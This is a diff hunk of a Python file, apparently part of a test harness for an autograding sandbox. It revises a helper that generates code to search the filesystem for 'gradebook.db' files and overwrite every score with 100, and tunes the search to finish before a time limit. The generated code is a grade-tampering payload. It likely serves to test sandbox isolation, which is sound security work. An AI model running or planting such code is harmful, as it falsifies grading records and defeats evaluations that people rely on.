@@ -298,10 +298,16 @@ def _hear(server, heard):
 
 def _write_gradebook(path):
     return f"""
-import glob, os, sqlite3
-for path in [{str(path)!r}, *glob.glob('/**/gradebook.db', recursive=True)]:
-    os.makedirs(os.path.dirname(path), exist_ok=True)
-    with sqlite3.connect(path) as db: db.execute('update grade set auto_score = 100, manual_score = 100')
+import os, sqlite3
+def write(path):
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with sqlite3.connect(path) as db: db.execute('update grade set auto_score = 100, manual_score = 100')
+    except (OSError, sqlite3.Error): pass
+write({str(path)!r})
+for base, folders, names in os.walk('/'):  # not all of it: its time would be up before it wrote anything
+    folders[:] = [f for f in folders if f not in ('proc', 'usr', 'dev', 'site-packages') and 'python3' not in f]
+    if 'gradebook.db' in names: write(os.path.join(base, 'gradebook.db'))
 """
 
 
